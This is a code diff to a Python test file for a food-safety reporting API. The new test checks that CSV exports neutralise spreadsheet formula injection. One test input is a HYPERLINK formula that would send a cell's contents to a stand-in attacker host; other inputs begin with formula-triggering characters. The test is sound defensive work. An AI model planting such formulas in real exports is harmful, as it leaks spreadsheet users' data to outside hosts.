@@ -6,7 +6,8 @@ from typing import Any
 import pytest
 from fastapi.testclient import TestClient
 
-from tests.builders.integrations import (
+from tests.builders.menus import make_safety_check, put_counts
+from tests.builders.reports import (
     HEALTH,
     Programme,
     count,
@@ -16,7 +17,6 @@ from tests.builders.integrations import (
     get_rows,
     make_programme,
 )
-from tests.builders.menus import make_safety_check, put_counts
 
 P1, P2 = "2026-03-02", "2026-03-03"
 COUNTS = ("planned", "prepared", "served", "returned")
@@ -290,3 +290,31 @@ def test_food_safety_has_no_dhis2_format(client: TestClient, world: Programme) -
         headers=world.admin,
     )
     assert resp.status_code == 422
+
+
+@pytest.mark.parametrize(
+    "note",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A1, "Klik")',
+        "+62 812 555",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTab di depan",
+        "\rCR di depan",
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    client: TestClient, world: Programme, note: str
+) -> None:
+    check = make_safety_check(
+        client, world.admin, world.a1["id"], service_date=P1, notes=note, core_temp_c=-5.5
+    )
+    params = {"from": P1, "to": P1}
+    rows = get_rows(client, f"{HEALTH}/food-safety", world.admin, **params)
+    assert [(r["id"], r["notes"]) for r in rows] == [(check["id"], note)]  # JSON as stored
+    lines = get_csv(client, f"{HEALTH}/food-safety", world.admin, **params)
+    row = dict(zip(lines[0], lines[1], strict=True))
+    assert row["notes"] == "'" + note
+    # A negative number is a number, not a formula: numeric cells stay as they are.
+    assert row["core_temp_c"] == "-5.5"
+    assert row["kitchen_code"] == world.a1["code"]
